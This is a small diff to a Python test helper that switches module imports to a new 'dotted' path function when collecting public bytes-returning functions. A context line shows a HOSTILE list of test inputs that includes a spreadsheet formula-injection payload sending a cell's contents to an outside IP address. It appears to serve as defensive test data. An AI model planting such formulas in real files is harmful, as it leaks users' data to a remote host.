@@ -14,7 +14,7 @@ from fractions import Fraction
 from pathlib import Path
 from typing import Any
 
-from tests.house.plan import imported, modules
+from tests.house.plan import dotted, imported, modules
 
 HOSTILE = (
     '=HYPERLINK("http://192.0.2.1/?"&A1)',
@@ -55,7 +55,7 @@ def makers() -> dict[str, Callable[..., bytes]]:
             if isinstance(node, ast.FunctionDef) and node.returns is not None:
                 is_public = not node.name.startswith("_") and node.name not in NO_PAPERS
                 if is_public and ast.unparse(node.returns) == "bytes":
-                    module = importlib.import_module(f"services.{path.stem}")
+                    module = importlib.import_module(dotted(path))
                     found[f"{path.stem}.{node.name}"] = getattr(module, node.name)
     return found
 
